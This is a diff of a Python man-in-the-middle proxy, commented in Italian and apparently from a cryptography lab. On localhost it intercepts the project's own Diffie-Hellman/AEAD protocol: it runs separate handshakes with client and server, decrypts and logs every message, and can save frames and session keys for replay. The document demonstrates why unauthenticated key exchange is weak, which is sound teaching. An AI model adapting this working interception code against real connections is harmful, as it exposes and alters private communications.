@@ -1,127 +1,299 @@
 #!/usr/bin/env python3
+import asyncio
+import queue
 import socket
-from cryptography.hazmat.primitives.asymmetric import dh
-from cryptography.hazmat.primitives.ciphers.aead import AESGCM
-from common import derive_key, send_encrypted, recv_decrypted
+import threading
+from concurrent.futures import ThreadPoolExecutor
+from common import (derive_session, open_frame, recv_frame_flags_async, send_encrypted_async, FRAME_KEY_UPDATE,
+                    HANDSHAKE_MODES, SUPPORTED_SUITES, DEFAULT_SUITE)
+from dh_params import get_parameters
+from protocol import Connection, BlockingConnection
+from capture import CaptureWriter, CLIENT_TO_SERVER, SERVER_TO_CLIENT
 
 # Parametri di configurazione per l'attacco Man-in-the-Middle
 LISTEN_HOST = '127.0.0.1'
 LISTEN_PORT = 65433   # porta su cui il client si connette (il proxy si fa passare per il server)
 SERVER_HOST = '127.0.0.1'
 SERVER_PORT = 65432   # porta del vero server (a cui il proxy si connette come fosse un client)
+DH_SOURCE = 'ffdhe2048'   # origine dei parametri DH verso il client (vedi dh_params.get_parameters)
+# Stampa dei messaggi intercettati su un thread separato: la console lenta non rallenta l'inoltro
+LOG_IN_BACKGROUND = True
+# Righe di log in attesa oltre le quali le nuove vengono scartate (e contate)
+LOG_QUEUE_SIZE = 10000
+# File di cattura binario dei frame intercettati (None per disattivarla, vedi capture.py e replay.py)
+CAPTURE_FILE = None
+# Salva nella cattura anche i segreti di sessione, necessari per decifrare e ri-iniettare il traffico
+CAPTURE_KEYS = False
+# Thread dedicati agli handshake, bloccanti e CPU-bound, fuori dall'event loop
+HANDSHAKE_WORKERS = 8
+# Secondi concessi a ciascun handshake (verso il client e verso il server): un peer che non risponde
+# non deve occupare per sempre uno dei HANDSHAKE_WORKERS thread
+HANDSHAKE_TIMEOUT = 10
 
-def dh_handshake(sock, parameters=None):
+def dh_handshake(sock, server_side, modes=HANDSHAKE_MODES, suites=SUPPORTED_SUITES, parameters=None):
     """
-    Se parameters==None:
-      -> genera nuovi (p,g) e chiave privata di Mallory,
-      -> invia p,g,Y_mallory al peer,
-      -> riceve Y_peer,
-      -> restituisce (shared_key, parameters)
-    Se parameters!=None:
-      -> riceve p,g,Y_peer,
-      -> calcola Y_mallory e lo invia,
-      -> restituisce (shared_key, parameters)
+    Se server_side==True (verso il client):
+      -> riceve le modalità offerte dal peer e sceglie la prima tra quelle in modes,
+         e la prima suite AEAD in suites tra quelle offerte,
+      -> invia la chiave pubblica di Mallory (e p,g da dh_params in modalità dh),
+      -> riceve la chiave pubblica del peer,
+      -> restituisce (shared_key, mode, suite)
+      parameters sono i parametri DH da proporre (di default quelli di DH_SOURCE)
+    Se server_side==False (verso il server):
+      -> offre le modalità in modes e le suite in suites,
+      -> riceve modalità e suite scelte e la chiave pubblica del peer,
+      -> calcola la chiave pubblica di Mallory e la invia,
+      -> restituisce (shared_key, mode, suite)
     """
-    # 1) Funzione per gestire l'handshake Diffie-Hellman in entrambe le direzioni
-    if parameters is None:
-        # 1.1) Primo caso: Mallory genera i parametri (come un server)
-        # Questo viene usato nell'handshake verso il client
-        parameters = dh.generate_parameters(generator=2, key_size=2048)
-        priv = parameters.generate_private_key()
-        pub = priv.public_key().public_numbers().y
-        
-        # Invia p, g, e la chiave pubblica di Mallory al peer (il client)
-        nums = parameters.parameter_numbers()
-        sock.sendall(f"{nums.p},{nums.g},{pub}".encode())
-        
-        # Riceve la chiave pubblica del peer (client)
-        peer_pub = int(sock.recv(8192).decode())
+    # 1) Funzione per gestire l'handshake in entrambe le direzioni e in entrambe le modalità
+    # I messaggi sono gli stessi di server.py/client.py: la stessa macchina a stati
+    # protocol.Connection, eseguita sul socket bloccante del thread di handshake
+    if server_side:
+        # 1.1) Primo caso: Mallory si comporta come un server (handshake verso il client).
+        # Un eventuale ticket di ripresa è cifrato con la chiave del vero server:
+        # senza TicketStore Mallory lo ignora, forza un handshake completo e invia un ticket vuoto.
+        # Mallory non negozia la compressione su nessuno dei due lati (catture e replay restano semplici)
+        if parameters is None:
+            parameters = get_parameters(DH_SOURCE)
+        conn = Connection(server_side=True, modes=modes, suites=suites, parameters=parameters, compression=())
     else:
-        # 1.2) Secondo caso: Mallory riusa i parametri esistenti (come un client)
-        # Questo viene usato nell'handshake verso il server
-        # Riceve p, g, e la chiave pubblica dal peer (server)
-        data = sock.recv(8192).decode()
-        p_str, g_str, peer_pub_str = data.split(',')
-        p, g = int(p_str), int(g_str)
-        peer_pub = int(peer_pub_str)
-        
-        # Ricostruisce i parametri e genera la propria chiave
-        parameters = dh.DHParameterNumbers(p, g).parameters()
-        priv = parameters.generate_private_key()
-        pub = priv.public_key().public_numbers().y
-        
-        # Invia la chiave pubblica di Mallory al peer (server)
-        sock.sendall(str(pub).encode())
-
-    # 2) Calcolo del segreto condiviso con ciascun peer
-    # Questo permette a Mallory di avere una chiave condivisa diversa con client e server
-    peer_nums = dh.DHPublicNumbers(peer_pub, parameters.parameter_numbers())
-    shared = priv.exchange(peer_nums.public_key())
-    return shared, parameters
+        # 1.2) Secondo caso: Mallory si comporta come un client (handshake verso il server);
+        # il ticket che il server invia alla fine viene scartato
+        conn = Connection(server_side=False, modes=modes, suites=suites, compression=())
+    BlockingConnection(sock, conn).handshake()
 
-def main():
-    # 3) Configurazione del proxy MITM
-    # Il proxy si mette in ascolto per intercettare la connessione del client
-    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as proxy:
-        proxy.bind((LISTEN_HOST, LISTEN_PORT))
-        proxy.listen(1)
-        print(f"[+] MITM in ascolto su {LISTEN_HOST}:{LISTEN_PORT}")
-        client_conn, client_addr = proxy.accept()
-        print(f"[+] Client connesso da {client_addr}")
-
-        # 4) Connessione al vero server
-        # Mallory stabilisce una connessione separata al server di destinazione
-        server_conn = socket.create_connection((SERVER_HOST, SERVER_PORT))
-        print(f"[+] Collegato al server {SERVER_HOST}:{SERVER_PORT}")
-
-        # 5) Handshake DH Client⇄Mallory
-        # Mallory si comporta come un server verso il client
-        client_shared, params = dh_handshake(client_conn, parameters=None)
-        print("[*] DH completo con il client")
-
-        # 6) Handshake DH Mallory⇄Server
-        # Mallory si comporta come un client verso il server
-        # Riutilizza gli stessi parametri per evitare problemi di compatibilità
-        server_shared, _ = dh_handshake(server_conn, parameters=params)
-        print("[*] DH completo con il server")
-
-        # 7) Setup AES-GCM per entrambi i canali
-        # Mallory genera chiavi diverse per ciascuna connessione
-        client_key = derive_key(client_shared)
-        server_key = derive_key(server_shared)
-        client_aes = AESGCM(client_key)
-        server_aes = AESGCM(server_key)
-
-        # 8) Funzione di forwarding bidirezionale
-        # Permette di intercettare, leggere e inoltrare i messaggi in entrambe le direzioni
-        def forward(src, dst, aes_src, aes_dst, who_from, who_to):
-            try:
-                # Riceve e decifra il messaggio dalla sorgente
-                msg = recv_decrypted(src, aes_src)
-            except EOFError:
-                # Gestisce la chiusura della connessione
-                return False
-            
-            # Visualizza il messaggio decifrato (l'attacco è riuscito!)
-            print(f"[{who_from} -> {who_to}] {msg.decode()!r}")
-            
-            # Cifra e inoltra il messaggio alla destinazione
-            send_encrypted(dst, aes_dst, msg)
-            return True
-
-        # 9) Loop principale del proxy MITM
-        # Continua a inoltrare i messaggi finché una connessione si chiude
+    # 2) Il segreto condiviso è diverso con ciascun peer: Mallory ha una chiave per lato
+    return conn.shared_key, conn.mode, conn.suite
+
+class LogQueue:
+    """
+    Stampa asincrona: log() accoda la riga e un thread in background la scrive su stdout.
+    """
+
+    def __init__(self, maxsize: int = LOG_QUEUE_SIZE):
+        self._queue = queue.Queue(maxsize=maxsize)
+        self.dropped = 0
+        self._thread = threading.Thread(target=self._run, name='mitm-log', daemon=True)
+        self._thread.start()
+
+    def _run(self):
         while True:
-            # Client -> Server
-            if not forward(client_conn, server_conn, client_aes, server_aes, "Client", "Server"):
-                break
-            # Server -> Client
-            if not forward(server_conn, client_conn, server_aes, client_aes, "Server", "Client"):
+            line = self._queue.get()
+            if line is None:
                 break
+            print(line)
 
-        # 10) Pulizia e chiusura delle connessioni
-        client_conn.close()
+    def log(self, line: str) -> None:
+        # Mai bloccare l'inoltro: se la console non tiene il passo le righe in eccesso si perdono
+        try:
+            self._queue.put_nowait(line)
+        except queue.Full:
+            self.dropped += 1
+
+    def close(self) -> None:
+        """
+        Stampa le righe ancora in coda e ferma il thread.
+        """
+        self._queue.put(None)
+        self._thread.join(timeout=5)
+        if self.dropped:
+            print(f"[!] {self.dropped} righe di log scartate")
+
+def intercept(client_conn: socket.socket, server_host: str = SERVER_HOST, server_port: int = SERVER_PORT,
+              parameters=None):
+    """
+    Esegue i due handshake di una sessione intercettata (bloccante, gira su un thread).
+    parameters sono i parametri DH proposti al client (vedi dh_handshake).
+    Ogni handshake ha al massimo HANDSHAKE_TIMEOUT secondi (socket.timeout); i socket
+    restituiti non hanno più timeout.
+    Restituisce (server_conn, keys) con
+    keys = (client_mode, client_shared, server_mode, server_shared, client_suite, server_suite).
+    """
+    # 4) Handshake DH Client⇄Mallory: Mallory si comporta come un server verso il client.
+    # Lo facciamo prima di contattare il vero server, così una connessione che
+    # si interrompe subito non apre nulla verso di lui
+    client_conn.settimeout(HANDSHAKE_TIMEOUT)
+    client_shared, client_mode, client_suite = dh_handshake(client_conn, server_side=True, parameters=parameters)
+
+    # 5) Connessione al vero server e handshake Mallory⇄Server, dove Mallory fa il client.
+    # Le due chiavi sono indipendenti: verso il server modalità e suite vengono rinegoziate
+    server_conn = socket.create_connection((server_host, server_port), timeout=HANDSHAKE_TIMEOUT)
+    try:
+        server_shared, server_mode, server_suite = dh_handshake(server_conn, server_side=False)
+    except BaseException:
         server_conn.close()
+        raise
+    # Da qui in poi i tempi li decide la conversazione: niente timeout durante l'inoltro
+    client_conn.settimeout(None)
+    server_conn.settimeout(None)
+
+    return server_conn, (client_mode, client_shared, server_mode, server_shared, client_suite, server_suite)
+
+def session_ciphers(client_mode, client_shared, server_mode, server_shared,
+                    client_suite=DEFAULT_SUITE, server_suite=DEFAULT_SUITE):
+    """
+    Cifrari di una sessione intercettata: (to_client, from_client, to_server, from_server).
+    """
+    # 6) Setup dei cifrari AEAD per entrambi i canali (ciascuno con la propria suite)
+    # Mallory genera chiavi diverse per ciascuna connessione e per ciascuna direzione:
+    # verso il client fa la parte del server, verso il server quella del client
+    to_client, from_client = derive_session(client_shared, client_mode, server_side=True, suite=client_suite)
+    to_server, from_server = derive_session(server_shared, server_mode, server_side=False, suite=server_suite)
+    return to_client, from_client, to_server, from_server
+
+async def relay(reader, writer, cipher_src, cipher_dst, label: str, log, capture=None, direction=None) -> None:
+    """
+    Inoltra una direzione di una sessione: decifra, registra e ricifra ogni frame.
+    capture è una coppia (CaptureWriter, numero di sessione) oppure None.
+    """
+    # 7) Ogni direzione avanza per conto suo: il client può inviare più messaggi di fila
+    # senza attendere una risposta, come fa una chat reale
+    try:
+        while True:
+            flags, blob = await recv_frame_flags_async(reader)
+            if capture is not None:
+                # Il frame viene salvato cifrato, così come è arrivato
+                capture[0].frame(capture[1], direction, blob, key_update=bool(flags & FRAME_KEY_UPDATE))
+            msg = open_frame(cipher_src, flags, blob)
+            if msg is None:
+                # Aggiornamento delle chiavi da un lato: l'altro lato aggiorna le proprie
+                # in modo indipendente, alle soglie di Mallory
+                log(f"{label} aggiornamento chiavi (generazione {cipher_src.generation})")
+                continue
+            # Visualizza il messaggio decifrato (l'attacco è riuscito!)
+            log(f"{label} {msg.decode(errors='replace')!r}")
+            await send_encrypted_async(writer, cipher_dst, msg)
+    except (asyncio.IncompleteReadError, ConnectionError):
+        # Un lato ha chiuso (o chiuso in scrittura) la connessione: lo propaghiamo all'altro lato
+        # con un half-close, così le risposte ancora in viaggio nell'altra direzione arrivano
+        if writer.can_write_eof() and not writer.is_closing():
+            try:
+                writer.write_eof()
+            except OSError:
+                pass
+
+class MitmProxy:
+    """
+    Proxy MITM multi-sessione: ogni client intercettato ha la propria coppia di chiavi
+    verso Mallory e verso il server, e le due direzioni sono inoltrate in modo indipendente.
+    """
+
+    def __init__(self, listen_host=LISTEN_HOST, listen_port=LISTEN_PORT,
+                 server_host=SERVER_HOST, server_port=SERVER_PORT, background_log=LOG_IN_BACKGROUND,
+                 capture_file=CAPTURE_FILE, capture_keys=CAPTURE_KEYS):
+        self.listen_host = listen_host
+        self.listen_port = listen_port
+        self.server_host = server_host
+        self.server_port = server_port
+        # Parametri DH verso i client risolti una volta sola: con DH_SOURCE = 'generate'
+        # ricavarli a ogni sessione vorrebbe dire generare un gruppo da 2048 bit per ogni client
+        self.parameters = get_parameters(DH_SOURCE)
+        self.log_queue = LogQueue() if background_log else None
+        self.log = self.log_queue.log if self.log_queue else print
+        self.executor = ThreadPoolExecutor(max_workers=HANDSHAKE_WORKERS, thread_name_prefix='mitm-handshake')
+        self.sessions = 0
+        self.capture = CaptureWriter(capture_file, keys=capture_keys) if capture_file else None
+
+    async def _session(self, client_conn: socket.socket, addr, session_id: int) -> None:
+        loop = asyncio.get_running_loop()
+        self.log(f"[+] [{session_id}] Client connesso da {addr}")
+        try:
+            # Gli handshake usano i socket in modo bloccante su un thread dell'executor
+            client_conn.setblocking(True)
+            server_conn, keys = await loop.run_in_executor(
+                self.executor, intercept, client_conn, self.server_host, self.server_port, self.parameters)
+        except socket.timeout:
+            self.log(f"[!] [{session_id}] Handshake non completato entro {HANDSHAKE_TIMEOUT}s")
+            client_conn.close()
+            return
+        except (EOFError, ValueError, OSError) as e:
+            self.log(f"[!] [{session_id}] Handshake fallito: {e!r}")
+            client_conn.close()
+            return
+        self.log(f"[*] [{session_id}] Handshake {keys[0]}/{keys[4]} con il client, "
+                 f"{keys[2]}/{keys[5]} con il server")
+        to_client, from_client, to_server, from_server = session_ciphers(*keys)
+        capture = None
+        if self.capture is not None:
+            capture = (self.capture, self.capture.start_session(*keys))
+
+        # 8) Da qui in poi i due socket passano all'event loop come stream asincroni
+        client_reader, client_writer = await asyncio.open_connection(sock=client_conn)
+        server_reader, server_writer = await asyncio.open_connection(sock=server_conn)
+        self.sessions += 1
+        try:
+            # Un EOF chiude solo la propria direzione (vedi relay): la sessione termina quando sono
+            # finite entrambe, oppure subito se una delle due fallisce
+            tasks = [
+                asyncio.create_task(relay(client_reader, server_writer, from_client, to_server,
+                                          f"[{session_id}] [Client -> Server]", self.log,
+                                          capture, CLIENT_TO_SERVER)),
+                asyncio.create_task(relay(server_reader, client_writer, from_server, to_client,
+                                          f"[{session_id}] [Server -> Client]", self.log,
+                                          capture, SERVER_TO_CLIENT)),
+            ]
+            done, pending = await asyncio.wait(tasks, return_when=asyncio.FIRST_EXCEPTION)
+            for task in pending:
+                task.cancel()
+            await asyncio.gather(*pending, return_exceptions=True)
+            for task in done:
+                if not task.cancelled() and task.exception() is not None:
+                    # Es. tag GCM non valido: chiudiamo solo questa sessione
+                    self.log(f"[!] [{session_id}] Errore: {task.exception()!r}")
+        finally:
+            self.sessions -= 1
+            if capture is not None:
+                capture[0].end_session(capture[1])
+                capture[0].flush()
+            # 9) Pulizia e chiusura delle connessioni della sessione
+            for writer in (client_writer, server_writer):
+                writer.close()
+            self.log(f"[!] [{session_id}] Sessione terminata ({self.sessions} attive)")
+
+    async def serve(self) -> None:
+        """
+        Accetta client all'infinito e avvia una sessione intercettata per ciascuno.
+        """
+        loop = asyncio.get_running_loop()
+        # 3) Configurazione del proxy MITM
+        # Il proxy si mette in ascolto per intercettare le connessioni dei client
+        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as proxy:
+            proxy.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+            proxy.bind((self.listen_host, self.listen_port))
+            proxy.listen(128)
+            proxy.setblocking(False)
+            print(f"[+] MITM in ascolto su {self.listen_host}:{self.listen_port}", flush=True)
+            tasks = set()
+            session_id = 0
+            try:
+                while True:
+                    client_conn, client_addr = await loop.sock_accept(proxy)
+                    session_id += 1
+                    task = asyncio.create_task(self._session(client_conn, client_addr, session_id))
+                    tasks.add(task)
+                    task.add_done_callback(tasks.discard)
+            finally:
+                for task in tasks:
+                    task.cancel()
+                await asyncio.gather(*tasks, return_exceptions=True)
+                self.executor.shutdown(wait=False)
+
+    def close(self) -> None:
+        if self.capture is not None:
+            self.capture.close()
+        if self.log_queue is not None:
+            self.log_queue.close()
+
+def main():
+    # Le costanti sono lette qui, così restano modificabili dopo l'import (come fa bench.py)
+    proxy = MitmProxy(LISTEN_HOST, LISTEN_PORT, SERVER_HOST, SERVER_PORT,
+                      capture_file=CAPTURE_FILE, capture_keys=CAPTURE_KEYS)
+    try:
+        asyncio.run(proxy.serve())
+    except KeyboardInterrupt:
+        pass
+    finally:
+        proxy.close()
         print("[!] MITM proxy terminato")
 
 # Punto di ingresso dello script